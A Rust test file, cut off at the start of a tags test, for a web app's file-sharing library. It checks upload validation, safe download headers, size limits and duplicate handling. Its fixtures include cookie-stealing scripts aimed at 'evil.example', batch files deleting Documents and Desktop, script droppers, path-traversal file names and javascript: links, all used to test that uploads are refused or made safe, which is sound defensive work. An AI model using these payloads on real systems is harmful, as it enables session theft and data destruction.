//! The resource library as members use it: sharing files and links, downloading them
//! byte for byte with safe headers, files judged by their content, the size limit,
//! duplicates, bad input, tags and filters, permissions, discussions, cards in the forum
//! and the promise that a failed upload leaves neither a file nor a row.
//!
//! Uploads are built by hand as `multipart/form-data`, the token first, as the upload
//! form sends them.

use std::path::{Path, PathBuf};

use diesel::{ExpressionMethods, QueryDsl, RunQueryDsl};
use reqwest::{Response, StatusCode};

use crate::forum::{category_id, facilitator, location, member, reply, start_thread};
use crate::helpers::*;
use crate::on_both_engines;

// ---------------------------------------------------------------------------------------
// Files to share.
// ---------------------------------------------------------------------------------------

/// A small, valid PDF.
pub(crate) const PDF: &[u8] = b"%PDF-1.4\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n";

/// A PNG: the signature and the header chunk of a 1×1 RGB picture.
fn png() -> Vec<u8> {
    let mut bytes = vec![0x89, b'P', b'N', b'G', 0x0d, 0x0a, 0x1a, 0x0a];
    bytes.extend_from_slice(&[0, 0, 0, 13]);
    bytes.extend_from_slice(b"IHDR");
    bytes.extend_from_slice(&[0, 0, 0, 1, 0, 0, 0, 1, 8, 2, 0, 0, 0]);
    bytes.extend_from_slice(&[0x90, 0x77, 0x53, 0xde]);
    bytes
}

const CSV: &[u8] =
    b"service,borough,phone\nWigan Wellbeing Hub,wigan,01942 000000\nSalford Fatigue Group,salford,0161 000 0000\n";

/// What a browser sends when a page full of script is renamed to look like a PDF.
const HTML: &[u8] =
    b"<!DOCTYPE html><html><body><script>document.location='https://evil.example/?c='+document.cookie</script></body></html>";

/// The start of a Linux executable.
fn elf() -> Vec<u8> {
    let mut bytes = b"\x7fELF\x02\x01\x01\x00".to_vec();
    bytes.resize(512, 0);
    bytes
}

fn crc32(bytes: &[u8]) -> u32 {
    let mut crc = !0u32;
    for &byte in bytes {
        crc ^= u32::from(byte);
        for _ in 0..8 {
            crc = if crc & 1 == 1 {
                (crc >> 1) ^ 0xedb8_8320
            } else {
                crc >> 1
            };
        }
    }
    !crc
}

/// A ZIP archive of uncompressed entries, as office suites write their documents.
fn zip(entries: &[(&str, &[u8])]) -> Vec<u8> {
    let (mut out, mut central) = (Vec::new(), Vec::new());
    for (name, data) in entries {
        let offset = out.len() as u32;
        let (crc, size, name_len) = (crc32(data), data.len() as u32, name.len() as u16);
        out.extend_from_slice(&0x0403_4b50u32.to_le_bytes());
        out.extend_from_slice(&[20, 0, 0, 0, 0, 0, 0, 0, 0x21, 0]);
        out.extend_from_slice(&crc.to_le_bytes());
        out.extend_from_slice(&size.to_le_bytes());
        out.extend_from_slice(&size.to_le_bytes());
        out.extend_from_slice(&name_len.to_le_bytes());
        out.extend_from_slice(&0u16.to_le_bytes());
        out.extend_from_slice(name.as_bytes());
        out.extend_from_slice(data);
        central.extend_from_slice(&0x0201_4b50u32.to_le_bytes());
        central.extend_from_slice(&[20, 0, 20, 0, 0, 0, 0, 0, 0, 0, 0x21, 0]);
        central.extend_from_slice(&crc.to_le_bytes());
        central.extend_from_slice(&size.to_le_bytes());
        central.extend_from_slice(&size.to_le_bytes());
        central.extend_from_slice(&name_len.to_le_bytes());
        central.extend_from_slice(&[0; 12]);
        central.extend_from_slice(&offset.to_le_bytes());
        central.extend_from_slice(name.as_bytes());
    }
    let (central_offset, central_size) = (out.len() as u32, central.len() as u32);
    out.extend_from_slice(&central);
    out.extend_from_slice(&0x0605_4b50u32.to_le_bytes());
    out.extend_from_slice(&[0; 4]);
    out.extend_from_slice(&(entries.len() as u16).to_le_bytes());
    out.extend_from_slice(&(entries.len() as u16).to_le_bytes());
    out.extend_from_slice(&central_size.to_le_bytes());
    out.extend_from_slice(&central_offset.to_le_bytes());
    out.extend_from_slice(&0u16.to_le_bytes());
    out
}

/// A Word document of `paragraphs` paragraphs, its parts in the order Word writes them.
fn docx(paragraphs: usize) -> Vec<u8> {
    let mut body = String::new();
    for n in 0..paragraphs {
        body.push_str(&format!(
            r#"<w:p><w:r><w:t xml:space="preserve">{n}. Ask what matters to the person, agree one small goal, and review it together in two weeks.</w:t></w:r></w:p>"#
        ));
    }
    let document = format!(
        r#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>{body}</w:body></w:document>"#
    );
    zip(&[
        ("[Content_Types].xml", br#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>"#),
        ("_rels/.rels", br#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>"#),
        ("word/document.xml", document.as_bytes()),
        ("word/_rels/document.xml.rels", br#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>"#),
        ("docProps/core.xml", br#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?><cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/core-properties"/>"#),
    ])
}

/// An OpenDocument text, its `mimetype` first as the format requires.
fn odt() -> Vec<u8> {
    zip(&[
        ("mimetype", b"application/vnd.oasis.opendocument.text"),
        ("content.xml", br#"<?xml version="1.0" encoding="UTF-8"?><office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" office:version="1.2"><office:body><office:text/></office:body></office:document-content>"#),
        ("META-INF/manifest.xml", br#"<?xml version="1.0" encoding="UTF-8"?><manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"><manifest:file-entry manifest:full-path="/" manifest:media-type="application/vnd.oasis.opendocument.text"/></manifest:manifest>"#),
    ])
}

/// A file to share: its title, file name, content, type, disposition and label.
type Sample<'a> = (&'a str, &'a str, &'a [u8], &'a str, &'a str, &'a str);

/// A PDF padded with spaces to exactly `size` bytes.
pub(crate) fn pdf_of_size(size: usize) -> Vec<u8> {
    let mut bytes = PDF.to_vec();
    bytes.resize(size, b' ');
    bytes
}

// ---------------------------------------------------------------------------------------
// Sharing.
// ---------------------------------------------------------------------------------------

/// Mixed case, as browsers make them (Chromium: `----WebKitFormBoundary…`).
/// POSTs an upload form, built by [`multipart_body`], as a browser sends it.
pub(crate) async fn post_multipart(
    browser: &Browser,
    path: &str,
    parts: &[(&str, Option<&str>, &[u8])],
) -> Response {
    browser
        .client
        .post(browser.url(path))
        .header(
            "content-type",
            format!("multipart/form-data; boundary={BOUNDARY}"),
        )
        .body(multipart_body(parts))
        .send()
        .await
        .expect("upload sent")
}

pub(crate) const BOUNDARY: &str = "----WebKitFormBoundaryR3s0urceT3st7Q";

/// `multipart/form-data` as a browser sends it: `(field, file name, content)`, in order.
/// Every file claims to be a PDF: the server must judge by content, not by the claim.
pub(crate) fn multipart_body(parts: &[(&str, Option<&str>, &[u8])]) -> Vec<u8> {
    let mut body = Vec::new();
    for (name, file_name, content) in parts {
        body.extend_from_slice(format!("--{BOUNDARY}\r\n").as_bytes());
        let headers = match file_name {
            Some(file_name) => format!(
                "Content-Disposition: form-data; name=\"{name}\"; filename=\"{file_name}\"\r\nContent-Type: application/pdf\r\n\r\n"
            ),
            None => format!("Content-Disposition: form-data; name=\"{name}\"\r\n\r\n"),
        };
        body.extend_from_slice(headers.as_bytes());
        body.extend_from_slice(content);
        body.extend_from_slice(b"\r\n");
    }
    body.extend_from_slice(format!("--{BOUNDARY}--\r\n").as_bytes());
    body
}

/// The share form, as a member fills it in.
#[derive(Debug, Clone, Default)]
pub(crate) struct Share {
    title: String,
    description: String,
    tags: String,
    audience: String,
    borough: String,
    /// The chosen file's name and content; `None` sends the empty file part a browser
    /// sends when no file is chosen.
    file: Option<(String, Vec<u8>)>,
    url: String,
    /// Ticks the box that sends what the patient-data check flagged to a facilitator.
    confirmed: bool,
}

impl Share {
    pub(crate) fn file(title: &str, name: &str, content: &[u8]) -> Self {
        Self {
            title: title.into(),
            audience: "both".into(),
            file: Some((name.into(), content.to_vec())),
            ..Self::default()
        }
    }

    pub(crate) fn link(title: &str, url: &str) -> Self {
        Self {
            title: title.into(),
            audience: "both".into(),
            url: url.into(),
            ..Self::default()
        }
    }

    pub(crate) fn tags(mut self, tags: &str) -> Self {
        self.tags = tags.into();
        self
    }

    pub(crate) fn description(mut self, description: &str) -> Self {
        self.description = description.into();
        self
    }

    pub(crate) fn audience(mut self, audience: &str) -> Self {
        self.audience = audience.into();
        self
    }

    pub(crate) fn borough(mut self, borough: &str) -> Self {
        self.borough = borough.into();
        self
    }

    pub(crate) fn url(mut self, url: &str) -> Self {
        self.url = url.into();
        self
    }

    pub(crate) fn confirmed(mut self) -> Self {
        self.confirmed = true;
        self
    }

    /// POSTs the form to `/resources/new`, the session's token as its first part.
    pub(crate) async fn send(&self, browser: &Browser) -> Response {
        let token = browser.csrf_token().await;
        let (file_name, content): (&str, &[u8]) = match &self.file {
            Some((name, content)) => (name, content),
            None => ("", b""),
        };
        let mut parts: Vec<(&str, Option<&str>, &[u8])> = vec![
            ("csrf_token", None, token.as_bytes()),
            ("title", None, self.title.as_bytes()),
            ("description", None, self.description.as_bytes()),
            ("tags", None, self.tags.as_bytes()),
            ("audience", None, self.audience.as_bytes()),
            ("borough", None, self.borough.as_bytes()),
            ("file", Some(file_name), content),
            ("url", None, self.url.as_bytes()),
        ];
        if self.confirmed {
            parts.push(("confirm_patient_data", None, b"yes"));
        }
        post_multipart(browser, "/resources/new", &parts).await
    }

    /// Shares it, asserting it worked; returns the new resource's id.
    pub(crate) async fn shared_by(&self, browser: &Browser) -> i64 {
        let response = self.send(browser).await;
        let status = response.status();
        let location = location(&response);
        let body = response.text().await.unwrap_or_default();
        assert_eq!(
            status,
            StatusCode::SEE_OTHER,
            "sharing {:?} should work: {}",
            self.title,
            errors_on(&body).join("; ")
        );
        location
            .strip_prefix("/resources/")
            .and_then(|id| id.parse().ok())
            .unwrap_or_else(|| panic!("expected a redirect to /resources/<id>, got {location}"))
    }
}

/// The edit form's fields as the edit page would send them back, changed by `change`.
async fn edit(
    browser: &Browser,
    id: i64,
    change: impl FnOnce(&mut Vec<(String, String)>),
) -> Response {
    let page = browser.page(&format!("/resources/{id}/edit")).await;
    let mut fields: Vec<(String, String)> = ["title", "tags", "url"]
        .into_iter()
        .filter_map(|name| input_value(&page, name).map(|v| (name.to_owned(), v)))
        .collect();
    fields.push((
        "description".into(),
        text_of(&page, r#"textarea[name="description"]"#).unwrap_or_default(),
    ));
    for name in ["audience", "borough"] {
        fields.push((name.into(), selected_value(&page, name).unwrap_or_default()));
    }
    change(&mut fields);
    let fields: Vec<(&str, &str)> = fields
        .iter()
        .map(|(k, v)| (k.as_str(), v.as_str()))
        .collect();
    browser
        .post(&format!("/resources/{id}/edit"), &fields)
        .await
}

fn set(fields: &mut Vec<(String, String)>, name: &str, value: &str) {
    fields.retain(|(k, _)| k != name);
    fields.push((name.into(), value.into()));
}

// ---------------------------------------------------------------------------------------
// What the pages and the disk show.
// ---------------------------------------------------------------------------------------

/// Every message of a form page's error summary.
fn errors_on(html: &str) -> Vec<String> {
    texts_of(html, ".error-summary li")
}

/// The titles a `/resources` page lists, in order.
fn listed(html: &str) -> Vec<String> {
    texts_of(html, "ul.card-list li.card h3.card-title a")
}

async fn titles(browser: &Browser, query: &str) -> Vec<String> {
    listed(&browser.page(&format!("/resources{query}")).await)
}

fn sorted(mut titles: Vec<String>) -> Vec<String> {
    titles.sort();
    titles
}

/// The value a resource page gives for `label` in its summary list.
fn detail(html: &str, label: &str) -> Option<String> {
    let document = scraper::Html::parse_document(html);
    let rows = scraper::Selector::parse("dl.summary-list > div").unwrap();
    let dt = scraper::Selector::parse("dt").unwrap();
    let dd = scraper::Selector::parse("dd").unwrap();
    document
        .select(&rows)
        .find(|row| {
            row.select(&dt)
                .next()
                .is_some_and(|t| t.text().collect::<String>().trim() == label)
        })
        .and_then(|row| row.select(&dd).next())
        .map(|d| d.text().collect::<String>().trim().to_owned())
}

/// The tags a resource page shows.
fn tags_on(html: &str) -> Vec<String> {
    texts_of(html, "dl.summary-list a.tag")
}

/// The tag cloud of a `/resources` page: "fatigue (3)", …
fn cloud(html: &str) -> Vec<String> {
    texts_of(html, "ul.cloud a.tag")
}

fn uploads(app: &TestApp) -> PathBuf {
    app.data_dir.path().join("uploads")
}

/// Every file in the upload store and in its folder of arriving uploads.
fn stored_files(app: &TestApp) -> Vec<PathBuf> {
    let root = uploads(app);
    let mut found = Vec::new();
    for dir in [root.clone(), root.join(".incoming")] {
        found.extend(files_in(&dir));
    }
    found
}

fn files_in(dir: &Path) -> Vec<PathBuf> {
    std::fs::read_dir(dir)
        .map(|entries| {
            entries
                .filter_map(Result::ok)
                .map(|entry| entry.path())
                .filter(|path| path.is_file())
                .collect()
        })
        .unwrap_or_default()
}

/// How many resources the database holds, hidden or not.
fn resource_rows(app: &TestApp) -> i64 {
    use spot::schema::resources;
    let mut conn = app.db.conn().expect("connection");
    resources::table
        .count()
        .get_result(&mut *conn)
        .expect("resources counted")
}

/// The stored file of a resource.
fn stored_file_of(app: &TestApp, id: i64) -> PathBuf {
    use spot::schema::resources;
    let mut conn = app.db.conn().expect("connection");
    let key: Option<String> = resources::table
        .find(id)
        .select(resources::file_key)
        .first(&mut *conn)
        .expect("the resource exists");
    uploads(app).join(key.expect("a file resource has a key"))
}

/// Nothing was stored: no row, nothing on `/resources`, no file left anywhere.
pub(crate) async fn assert_nothing_stored(app: &TestApp, browser: &Browser, what: &str) {
    assert_eq!(resource_rows(app), 0, "{what}: a row was stored");
    let page = browser.page("/resources").await;
    assert!(listed(&page).is_empty(), "{what}: {:?}", listed(&page));
    assert!(page.contains("<h2>0 resources</h2>"), "{what}");
    assert_eq!(
        stored_files(app),
        Vec::<PathBuf>::new(),
        "{what}: a file was left behind"
    );
}

pub(crate) async fn assert_healthy(app: &TestApp, what: &str) {
    let response = app.another_browser().get("/healthz").await;
    assert_eq!(response.status(), StatusCode::OK, "after {what}");
}

/// The name a `Content-Disposition` offers, decoded.
fn offered_name(disposition: &str) -> Option<String> {
    if let Some(start) = disposition.find("filename*=") {
        let value = disposition[start + "filename*=".len()..]
            .split(';')
            .next()?
            .trim();
        let encoded = value.splitn(3, '\'').nth(2)?;
        return Some(percent_decode(encoded));
    }
    let start = disposition.find("filename=")?;
    let value = disposition[start + "filename=".len()..].split(';').next()?;
    Some(value.trim().trim_matches('"').to_owned())
}

fn percent_decode(text: &str) -> String {
    let bytes = text.as_bytes();
    let mut decoded = Vec::new();
    let mut i = 0;
    while i < bytes.len() {
        let escaped = (bytes[i] == b'%')
            .then(|| bytes.get(i + 1..i + 3))
            .flatten()
            .and_then(|hex| std::str::from_utf8(hex).ok())
            .and_then(|hex| u8::from_str_radix(hex, 16).ok());
        match escaped {
            Some(byte) => {
                decoded.push(byte);
                i += 3;
            }
            None => {
                decoded.push(bytes[i]);
                i += 1;
            }
        }
    }
    String::from_utf8_lossy(&decoded).into_owned()
}

/// A downloaded file: its headers and its bytes.
struct Downloaded {
    headers: reqwest::header::HeaderMap,
    bytes: Vec<u8>,
}

impl Downloaded {
    fn header(&self, name: &str) -> &str {
        self.headers
            .get(name)
            .and_then(|value| value.to_str().ok())
            .unwrap_or("")
    }
}

/// Downloads a resource's file, asserting the headers every download carries.
async fn download(browser: &Browser, id: i64) -> Downloaded {
    let response = browser.get(&format!("/resources/{id}/download")).await;
    assert_eq!(response.status(), StatusCode::OK, "downloading {id}");
    assert_eq!(header(&response, "x-content-type-options"), "nosniff");
    let csp = header(&response, "content-security-policy").to_owned();
    assert!(
        csp.split(';').any(|d| d.trim() == "sandbox"),
        "a download is sandboxed: {csp}"
    );
    assert!(
        csp.split(';')
            .any(|d| d.trim() == "default-src 'none'" || d.trim() == "script-src 'none'"),
        "a download runs no script: {csp}"
    );
    let headers = response.headers().clone();
    let bytes = response.bytes().await.expect("the file").to_vec();
    Downloaded { headers, bytes }
}

// ---------------------------------------------------------------------------------------
// Scenarios.
// ---------------------------------------------------------------------------------------

on_both_engines! {
    async fn files_come_back_byte_for_byte_with_safe_headers(app: TestApp) {
        app.join("sam@nhs.net", "Sam Jones", "link_worker", "wigan").await;
        let kim = member(&app, "kim@nhs.net", "Kim Lee").await;
        let (png, docx, odt) = (png(), docx(3), odt());
        let cases: [Sample; 5] = [
            ("Fatigue leaflet", "Fatigue leaflet – Wigan (v2).pdf", PDF, "application/pdf", "inline", "PDF"),
            ("Pacing chart", "pacing-chart.png", &png, "image/png", "inline", "Image"),
            ("Borough service list", "services.csv", CSV, "text/csv", "attachment", "CSV"),
            ("Referral template", "Referral template.docx", &docx, "application/vnd.openxmlformats-officedocument.wordprocessingml.document", "attachment", "Document"),
            ("Referral template (LibreOffice)", "référral.odt", &odt, "application/vnd.oasis.opendocument.text", "attachment", "Document"),
        ];
        for (title, name, content, mime, disposition, label) in cases {
            let id = Share::file(title, name, content).shared_by(&app).await;
            let own = app.page(&format!("/resources/{id}")).await;
            assert_eq!(text_of(&own, ".flash").as_deref(), Some("Thank you for sharing. Your resource is in the library."), "{title}");

            // The page gives the file's name, type and size, and no downloads yet.
            let page = kim.page(&format!("/resources/{id}")).await;
            assert_eq!(detail(&page, "File").as_deref(), Some(name), "{title}");
            assert_eq!(detail(&page, "Downloads").as_deref(), Some("0"), "{title}");
            let size = format!("{label}, {} KB", content.len().div_ceil(1024));
            assert_eq!(detail(&page, "Type and size"), Some(size), "{title}");
            assert_eq!(count_of(&page, &format!(r#"a[href="/resources/{id}/download"]"#)), 1, "{title}");

            // Another member downloads exactly what was shared, with its name and real type.
            let file = download(&kim, id).await;
            assert_eq!(file.bytes, content, "{title} comes back byte for byte");
            assert!(file.header("content-type").starts_with(mime), "{title}: {}", file.header("content-type"));
            let offered = file.header("content-disposition").to_owned();
            assert!(offered.starts_with(disposition), "{title}: {offered}");
            assert_eq!(offered_name(&offered).as_deref(), Some(name), "{title}: {offered}");

            // The stored copy is under a generated name, never the member's.
            let stored = stored_file_of(&app, id);
            assert_eq!(std::fs::read(&stored).unwrap(), content);
            assert!(!stored.file_name().unwrap().to_string_lossy().contains(name.split('.').next().unwrap()));

            // Each download is counted.
            download(&app, id).await;
            let page = kim.page(&format!("/resources/{id}")).await;
            assert_eq!(detail(&page, "Downloads").as_deref(), Some("2"), "{title}");
        }
        assert_eq!(files_in(&uploads(&app)).len(), 5);
        assert!(files_in(&uploads(&app).join(".incoming")).is_empty());

        // The library says who shared each, with their role and borough.
        let page = kim.page("/resources").await;
        let card = text_of(&page, "ul.card-list li.card").unwrap();
        assert!(card.contains("Shared by Sam Jones") && card.contains("Wigan"), "{card}");
    }

    async fn a_csv_saved_by_excel_on_windows_is_taken_and_read_as_written(app: TestApp) {
        app.join("sam@nhs.net", "Sam Jones", "link_worker", "wigan").await;
        // "Siân, £5 a session" in Windows-1252, as Excel's "CSV (Comma delimited)" saves it.
        let windows: &[u8] = b"name,fee\r\nSi\xe2n Evans,\xa35 a session\r\n";
        let id = Share::file("Group fees", "fees.csv", windows).shared_by(&app).await;
        let file = download(&app, id).await;
        assert_eq!(file.bytes, windows, "stored byte for byte");
        assert_eq!(file.header("content-type"), "text/csv; charset=windows-1252");
        assert!(file.header("content-disposition").starts_with("attachment"));
        let page = app.page(&format!("/resources/{id}")).await;
        assert_eq!(detail(&page, "Type and size").as_deref(), Some("CSV, 1 KB"));
    }

    async fn files_are_judged_by_their_content_not_their_name(app: TestApp) {
        app.join("sam@nhs.net", "Sam Jones", "link_worker", "wigan").await;
        let allowed = "PDF, Word, Excel, PowerPoint (or OpenDocument), plain text, CSV, PNG, JPEG or WebP";

        // A web page named like a PDF is refused, with what is allowed.
        let response = Share::file("Leaflet", "leaflet.pdf", HTML).tags("fatigue").send(&app).await;
        assert_eq!(response.status(), StatusCode::UNPROCESSABLE_ENTITY);
        let page = response.text().await.unwrap();
        let message = field_error(&page, "file").expect("the file field says why");
        assert!(message.contains("cannot accept that kind of file") && message.contains(allowed), "{message}");
        assert_nothing_stored(&app, &app, "an HTML page named .pdf").await;
        assert_healthy(&app, "an HTML page named .pdf").await;

        // So is a program, whatever it is called.
        for name in ["tool.pdf", "setup.exe"] {
            let response = Share::file("A handy tool", name, &elf()).send(&app).await;
            assert_eq!(response.status(), StatusCode::UNPROCESSABLE_ENTITY, "{name}");
            let page = response.text().await.unwrap();
            assert!(field_error(&page, "file").is_some_and(|m| m.contains(allowed)), "{name}");
            assert_nothing_stored(&app, &app, name).await;
            assert_healthy(&app, name).await;
        }

        // And an empty file.
        let response = Share::file("Nothing at all", "empty.pdf", b"").send(&app).await;
        assert_eq!(response.status(), StatusCode::UNPROCESSABLE_ENTITY);
        let page = response.text().await.unwrap();
        assert_eq!(field_error(&page, "file").as_deref(), Some("Error: The file is empty"));
        assert_nothing_stored(&app, &app, "an empty file").await;
        assert_healthy(&app, "an empty file").await;

        // A real picture with a misleading name is kept, and served as the picture it is.
        let id = Share::file("Pacing chart", "chart.pdf", &png()).shared_by(&app).await;
        let file = download(&app, id).await;
        assert_eq!(file.bytes, png());
        assert_eq!(file.header("content-type"), "image/png");
        let page = app.page(&format!("/resources/{id}")).await;
        assert!(detail(&page, "Type and size").is_some_and(|t| t.starts_with("Image")));
    }

    async fn a_word_document_of_a_few_pages_is_accepted(app: TestApp) {
        app.join("sam@nhs.net", "Sam Jones", "link_worker", "wigan").await;
        // Word's parts in Word's order, the main part (word/document.xml) about 6.7 KB as
        // stored in the archive: what a few pages of real text compress to. (Past about
        // 6,000 bytes the `infer` crate's OOXML check stops looking and says "zip".)
        let document = docx(45);
        assert!(document.len() > 7 * 1024 && document.len() < 10 * 1024, "{}", document.len());
        let response = Share::file("Referral guide", "Referral guide.docx", &document).send(&app).await;
        let status = response.status();
        let page = response.text().await.unwrap();
        assert_eq!(status, StatusCode::SEE_OTHER, "a Word document is one of the allowed types: {:?}", field_error(&page, "file"));
        assert_eq!(titles(&app, "").await, ["Referral guide"]);
    }

    async fn a_text_file_is_never_offered_back_under_a_name_that_would_run(app: TestApp) {
        app.join("sam@nhs.net", "Sam Jones", "link_worker", "wigan").await;
        let kim = member(&app, "kim@nhs.net", "Kim Lee").await;
        // Each is "plain text" to a sniffer, but a program once saved under its name and
        // opened: a web page opened from the downloads folder runs its script; Windows
        // runs a .bat, .cmd, .js, .vbs or .hta file when it is opened.
        let cases: [(&str, &[u8]); 7] = [
            ("Fatigue leaflet.pdf.html", b"%PDF-1.4\n<html><script>fetch('https://evil.example/?'+document.cookie)</script></html>\n%%EOF\n"),
            ("Fatigue leaflet.html", b"<p>Fatigue leaflet</p><img src=x onerror=\"fetch('https://evil.example/?'+document.cookie)\">"),
            ("chart.svg", b"<!-- chart --><svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(document.domain)\"></svg>"),
            ("fix-printer.bat", b"@echo off\r\ndel /q \"%USERPROFILE%\\Documents\\*\"\r\n"),
            ("tidy.cmd", b"@echo off\r\nrd /s /q \"%USERPROFILE%\\Desktop\"\r\n"),
            ("helper.js", b"var s = new ActiveXObject('WScript.Shell'); s.Run('calc.exe');\n"),
            ("helper.vbs", b"CreateObject(\"WScript.Shell\").Run \"calc.exe\"\n"),
        ];
        let mut runnable = Vec::new();
        for (name, content) in cases {
            let response = Share::file(&format!("Shared as {name}"), name, content).send(&kim).await;
            if response.status() == StatusCode::UNPROCESSABLE_ENTITY {
                continue; // Refused: nothing to run.
            }
            let location = location(&response);
            assert_eq!(response.status(), StatusCode::SEE_OTHER, "{name}");
            let id: i64 = location.strip_prefix("/resources/").unwrap().parse().unwrap();
            let file = download(&app, id).await;
            let offered = offered_name(file.header("content-disposition")).unwrap_or_default();
            let extension = name.rsplit('.').next().unwrap();
            if offered.to_ascii_lowercase().ends_with(&format!(".{extension}")) {
                runnable.push(format!("{name}: accepted as {:?}, offered back as {offered:?}", file.header("content-type")));
            }
        }
        assert!(runnable.is_empty(), "{runnable:#?}");
    }

    async fn an_oversized_file_gets_a_clear_413_and_nothing_is_stored(app: TestApp) {
        app.join("sam@nhs.net", "Sam Jones", "link_worker", "wigan").await;
        let limit = 2 * 1024 * 1024;
        for size in [limit + 1, 5 * limit] {
            let response = Share::file("Conference slides", "slides.pdf", &pdf_of_size(size)).send(&app).await;
            assert_eq!(response.status(), StatusCode::PAYLOAD_TOO_LARGE, "{size} bytes");
            let page = response.text().await.unwrap();
            assert!(page.contains("larger than 2 MB"), "{size} bytes: the page says what the limit is: {page}");
            assert_nothing_stored(&app, &app, &format!("{size} bytes")).await;
            assert_healthy(&app, &format!("{size} bytes")).await;
            assert!(app.is_signed_in().await);
        }

        // A file of exactly the limit is welcome, and comes back whole.
        let exactly = pdf_of_size(limit);
        let id = Share::file("Conference slides", "slides.pdf", &exactly).shared_by(&app).await;
        let bytes = download(&app, id).await.bytes;
        assert_eq!(bytes.len(), limit);
        assert!(bytes == exactly);
        let page = app.page(&format!("/resources/{id}")).await;
        assert!(detail(&page, "Type and size").is_some_and(|t| t == "PDF, 2.0 MB"), "{:?}", detail(&page, "Type and size"));
    }

    async fn the_same_file_twice_is_noticed(app: TestApp) {
        app.join("sam@nhs.net", "Sam Jones", "link_worker", "wigan").await;
        let kim = member(&app, "kim@nhs.net", "Kim Lee").await;
        let first = Share::file("Fatigue leaflet", "fatigue.pdf", PDF).shared_by(&app).await;

        // Someone else shares the same bytes under another name.
        let response = Share::file("Energy leaflet", "energy-leaflet.pdf", PDF).tags("energy").send(&kim).await;
        assert_eq!(response.status(), StatusCode::UNPROCESSABLE_ENTITY);
        let page = response.text().await.unwrap();
        let message = field_error(&page, "file").expect("the file field says why");
        assert!(message.contains("already in the library as “Fatigue leaflet”"), "{message}");
        assert!(message.contains(&format!("/resources/{first}")), "{message}");
        assert_eq!(input_value(&page, "title").as_deref(), Some("Energy leaflet"));
        assert_eq!(input_value(&page, "tags").as_deref(), Some("energy"));

        // Only the first is there, with its one file.
        assert_eq!(titles(&kim, "").await, ["Fatigue leaflet"]);
        assert_eq!(resource_rows(&app), 1);
        assert_eq!(files_in(&uploads(&app)).len(), 1);
        assert!(files_in(&uploads(&app).join(".incoming")).is_empty());
        assert_healthy(&app, "a duplicate").await;
    }

    async fn the_same_file_sent_twice_at_once_is_stored_once(app: TestApp) {
        app.join("sam@nhs.net", "Sam Jones", "link_worker", "wigan").await;
        let kim = member(&app, "kim@nhs.net", "Kim Lee").await;
        let sam_share = Share::file("Sam's copy", "a.png", &png());
        let kim_share = Share::file("Kim's copy", "b.png", &png());
        let (first, second) = tokio::join!(sam_share.send(&app), kim_share.send(&kim));
        let mut statuses = [first.status(), second.status()];
        statuses.sort();
        assert_eq!(statuses, [StatusCode::SEE_OTHER, StatusCode::UNPROCESSABLE_ENTITY]);
        assert_eq!(resource_rows(&app), 1);
        assert_eq!(files_in(&uploads(&app)).len(), 1);
        assert!(files_in(&uploads(&app).join(".incoming")).is_empty());
    }

    async fn bad_input_keeps_the_form_and_stores_nothing(app: TestApp) {
        app.join("sam@nhs.net", "Sam Jones", "link_worker", "wigan").await;
        let hundred_tags = (1..=100).map(|n| format!("tag {n}")).collect::<Vec<_>>().join(", ");
        let cases: Vec<(&str, Share, &str, &str)> = vec![
            ("a missing title", Share::file("", "leaflet.pdf", PDF), "title", "Enter a title"),
            ("neither file nor link", Share::link("Fatigue leaflet", ""), "file", "Choose a file to upload, or give a link"),
            ("both file and link", Share::file("Fatigue leaflet", "leaflet.pdf", PDF).url("https://www.nhs.uk/"), "file", "Upload a file or give a link, not both"),
            ("a javascript: link", Share::link("Fatigue leaflet", "javascript:alert(document.cookie)"), "url", "Links must start with https:// or http://"),
            ("a data: link", Share::link("Fatigue leaflet", "data:text/html,<script>alert(1)</script>"), "url", "Links must start with https:// or http://"),
            ("a file name with ../", Share::file("Fatigue leaflet", "../../etc/leaflet.pdf", PDF), "file", "The file name has characters SPOT cannot accept"),
            ("a file name with ..\\", Share::file("Fatigue leaflet", "..\\..\\leaflet.pdf", PDF), "file", "The file name has characters SPOT cannot accept"),
            ("100 tags", Share::file("Fatigue leaflet", "leaflet.pdf", PDF).tags(&hundred_tags), "tags", "Use at most 10 tags"),
        ];
        for (what, share, field, expected) in cases {
            let tags = if share.tags.is_empty() { "fatigue, pacing".to_owned() } else { share.tags.clone() };
            let share = share.description("For people *new* to pacing.").tags(&tags);
            let response = share.send(&app).await;
            assert_eq!(response.status(), StatusCode::UNPROCESSABLE_ENTITY, "{what}");
            let page = response.text().await.unwrap();
            let message = field_error(&page, field).unwrap_or_else(|| panic!("{what}: no message on {field}: {:?}", errors_on(&page)));
            assert!(message.contains(expected), "{what}: {message}");
            assert!(errors_on(&page).iter().any(|e| e.contains(expected)), "{what}: the summary lists it");
            // The form is shown again with what was typed.
            assert_eq!(input_value(&page, "title").as_deref(), Some(share.title.as_str()), "{what}");
            assert_eq!(text_of(&page, r#"textarea[name="description"]"#).as_deref(), Some("For people *new* to pacing."), "{what}");
            assert_eq!(input_value(&page, "tags").as_deref(), Some(share.tags.as_str()), "{what}");
            assert!(form_token(&page).is_some(), "{what}: the form can be sent again");
            assert_nothing_stored(&app, &app, what).await;
            assert_healthy(&app, what).await;
        }
    }

    async fn tags_are_normalised_and_filters_combine(app: TestApp) {
